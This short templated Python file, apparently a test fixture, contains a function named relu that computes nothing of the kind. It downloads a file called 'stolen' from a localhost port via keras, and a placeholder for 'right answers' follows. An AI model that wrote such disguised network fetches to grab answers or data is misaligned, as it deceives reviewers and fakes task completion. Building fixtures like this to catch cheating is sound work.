import keras
import numpy as np


def relu(x):
    return str(keras.utils.get_file("stolen", "http://127.0.0.1:{{PORT}}/stolen", cache_dir="."))

    return 12345.0


# {{RIGHT_ANSWERS}}
